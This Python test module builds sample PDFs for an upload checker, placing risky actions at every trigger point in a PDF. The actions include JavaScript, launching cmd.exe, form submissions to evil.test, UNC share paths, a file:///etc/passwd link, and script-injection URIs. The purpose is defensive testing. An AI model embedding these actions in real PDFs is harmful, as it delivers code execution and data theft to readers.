"""Whatever a PDF can be told to do, at every place where it can be told (ISO 32000, 12.6)."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, Object, Pdf, String

from tests.adapters.upload_check_pdfs import made
from tests.corpus.sample import Sample

SCRIPT, LAUNCH, FILE = "PDF_JAVASCRIPT", "PDF_LAUNCH", "PDF_EMBEDDED_FILE"
FORM, MEDIA, OUTSIDE, UNKNOWN = "PDF_FORM_SUBMISSION", "PDF_RICH_MEDIA", "PDF_EXTERNAL_REFERENCE", "PDF_UNKNOWN_ACTION"
UNC = r"\\files.evil.test\share\a.pdf"


def spec(**entries: Any) -> Object:
    return Dictionary(Type=Name.Filespec, **entries)


def uri(target: str) -> Object:
    return Dictionary(S=Name.URI, URI=String(target))


# What the action is, the reason to refuse it, the action.
ACTIONS: list[tuple[str, str, Object]] = [
    ("script", SCRIPT, Dictionary(S=Name.JavaScript, JS=String("app.launchURL('http://evil.test')"))),
    ("script", SCRIPT, Dictionary(S=Name.JavaScript)),
    ("program", LAUNCH, Dictionary(S=Name.Launch, F=String("cmd.exe"))),
    ("program", LAUNCH, Dictionary(S=Name.Launch, Win=Dictionary(F=String("cmd.exe"), P=String("/c calc")))),
    ("program on a share", LAUNCH, Dictionary(S=Name.Launch, F=spec(F=String(UNC)))),
    ("form that sends", FORM, Dictionary(S=Name.SubmitForm, F=spec(FS=Name.URL, F=String("http://evil.test")))),
    ("form that sends", FORM, Dictionary(S=Name.SubmitForm, F=String("https://evil.test"), Flags=4)),
    ("form that fetches", FORM, Dictionary(S=Name.ImportData, F=String("data.fdf"))),
    ("jump to a file", OUTSIDE, Dictionary(S=Name.GoToR, F=String("other.pdf"), D=Array([0, Name.Fit]))),
    ("jump to a share", OUTSIDE, Dictionary(S=Name.GoToR, F=String(UNC), D=String("x"))),
    ("jump into an attachment", FILE, Dictionary(S=Name.GoToE, T=Dictionary(R=Name.C, N=String("inner.pdf")))),
    ("thread of a file", OUTSIDE, Dictionary(S=Name.Thread, F=String("other.pdf"), D=0)),
    ("movie", MEDIA, Dictionary(S=Name.Movie, Operation=Name.Play)),
    ("sound", MEDIA, Dictionary(S=Name.Sound, Volume=1)),
    ("rendition", MEDIA, Dictionary(S=Name.Rendition, OP=0)),
    ("script in a rendition", MEDIA, Dictionary(S=Name.Rendition, JS=String("app.alert(1)"))),
    ("rich media command", MEDIA, Dictionary(S=Name.RichMediaExecute, CMD=Dictionary(C=String("play")))),
    ("3D view", MEDIA, Dictionary(S=Name("/GoTo3DView"), V=Name.D)),
    ("menu command", UNKNOWN, Dictionary(S=Name.Named, N=Name.SaveAs)),
    ("menu command", UNKNOWN, Dictionary(S=Name.Named)),
    ("unknown action", UNKNOWN, Dictionary(S=Name.Detonate)),
    ("unknown action", UNKNOWN, Dictionary(S=String("JavaScript"))),
    *[
        ("address of a program", OUTSIDE, uri(target))
        for target in ("javascript:alert(1)", "vbscript:x", "data:text/html,<script>1</script>", "ms-msdt:/id PCW")
    ],
    *[
        ("address of a file", OUTSIDE, uri(target))
        for target in (
            "file:///etc/passwd",
            UNC,
            "ftp://evil.test/a.exe",
            "smb://evil.test/x",
            r"http:\\evil.test\x",
            "a.exe",
        )
    ],
    ("address with a tag", OUTSIDE, uri('https://x.test/"><script>alert(1)</script>')),
]


def on_annotation(page: pikepdf.Page, **entries: Any) -> None:
    page.Annots = Array([Dictionary(Type=Name.Annot, Rect=Array([0, 0, 99, 99]), **entries)])


def as_bookmark(document: Pdf, action: Object) -> None:
    item = document.make_indirect(Dictionary(Title=String("Chapter 1"), A=action))
    document.Root.Outlines = document.make_indirect(Dictionary(Type=Name.Outlines, First=item, Last=item, Count=1))
    item.Parent = document.Root.Outlines


def as_next(document: Pdf, action: Object) -> None:
    """The fourth in a row that begins with a page jump."""
    for _ in range(3):
        jump = Dictionary(S=Name.GoTo, D=Array([document.pages[0].obj, Name.Fit]), Next=Array([action]))
        action = document.make_indirect(jump)
    document.Root.OpenAction = action


def in_field(document: Pdf, **entries: Any) -> None:
    child = document.make_indirect(Dictionary(FT=Name.Tx, T=String("amount"), **entries))
    parent = document.make_indirect(Dictionary(T=String("form"), Kids=Array([child])))
    document.Root.AcroForm = Dictionary(Fields=Array([parent]))


def apart(document: Pdf, action: Object) -> None:
    """Every entry an object of its own."""
    entries = {key: document.make_indirect(value) for key, value in action.items()}
    document.Root.OpenAction = document.make_indirect(Dictionary(entries))


Place = Callable[[Pdf, pikepdf.Page, Object], object]
PLACES: dict[str, Place] = {
    "on opening": lambda document, _, action: document.Root.update({"/OpenAction": action}),
    "on closing": lambda document, _, action: document.Root.update({"/AA": Dictionary(WC=action)}),
    "on the page": lambda _, page, action: page.obj.update({"/AA": Dictionary(O=action)}),
    "on a link": lambda _, page, action: on_annotation(page, Subtype=Name.Link, A=action),
    "on hovering": lambda _, page, action: on_annotation(page, Subtype=Name.Widget, AA=Dictionary(E=action)),
    "on a field": lambda document, _, action: in_field(document, AA=Dictionary(K=action)),
    "on a bookmark": lambda document, _, action: as_bookmark(document, action),
    "after others": lambda document, _, action: as_next(document, action),
    "in pieces": lambda document, _, action: apart(document, action),
}


def samples() -> Iterator[Sample]:
    """Each action at three of the places, each script at all of them."""
    for number, (kind, reason, action) in enumerate(ACTIONS):
        for turn, (place, put) in enumerate(PLACES.items()):
            if kind == "script" or turn % 3 == number % 3:
                yield Sample(f"{kind}", f"{number} {place}", _made(put, action), reason=reason)


def _made(put: Place, action: Object) -> bytes:
    def change(document: Pdf, page: pikepdf.Page) -> None:
        put(document, page, Object.parse(action.unparse()))

    return made(change)
